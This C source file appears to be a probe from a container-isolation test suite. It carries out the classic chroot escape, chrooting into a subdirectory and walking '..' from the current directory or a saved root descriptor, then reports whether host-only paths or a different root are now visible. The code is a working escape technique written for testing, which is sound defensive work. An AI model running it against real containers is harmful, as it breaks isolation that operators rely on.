// The classic chroot escape, as root with CAP_SYS_CHROOT: chroot into a subdirectory while
// the cwd (or a saved fd) stays outside it, walk ".." as far as it goes and chroot there.
// A chroot-based container ends at the host's root; pivot_root with the old root detached
// leaves nothing above "/". Usage: chroot_escape HOST_PATH...  (paths only the host has)
#include "hostile.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat original_root;

// In a child, so each variant starts from the container's real root.
static void attempt(const char *label, int use_saved_fd, int argc, char **argv) {
    pid_t pid = fork();
    int status, i;
    if (pid < 0) broken("fork");
    if (pid == 0) {
        struct stat now;
        int seen = 0, saved = open("/", O_RDONLY | O_DIRECTORY);
        if (saved < 0) broken("open /");
        mkdir("/hostile-jail", 0755);
        if (chroot("/hostile-jail") != 0) broken("chroot /hostile-jail");
        if (use_saved_fd && fchdir(saved) != 0) broken("fchdir");
        for (i = 0; i < 512; i++)
            if (chdir("..") != 0) break;
        if (chroot(".") != 0) broken("chroot .");
        for (i = 1; i < argc; i++) {
            if (access(argv[i], F_OK) == 0) {
                escaped("%s: sees the host's %s", label, argv[i]);
                seen = 1;
            }
        }
        if (stat("/", &now) == 0 && (now.st_ino != original_root.st_ino || now.st_dev != original_root.st_dev)) {
            escaped("%s: ended on another root (dev %lu ino %lu)", label, (unsigned long)now.st_dev, (unsigned long)now.st_ino);
            seen = 1;
        }
        if (!seen) refused(label, ENOENT);
        fflush(stdout);
        _exit(seen);
    }
    if (waitpid(pid, &status, 0) != pid) broken("waitpid");
    if (WIFEXITED(status) && WEXITSTATUS(status) == 1) hostile_escapes++;
    else if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) broken(label);
}

int main(int argc, char **argv) {
    if (stat("/", &original_root) != 0) broken("stat /");
    attempt("chroot + chdir(..)", 0, argc, argv);
    attempt("chroot + fchdir(saved root fd) + chdir(..)", 1, argc, argv);
    return finish();
}
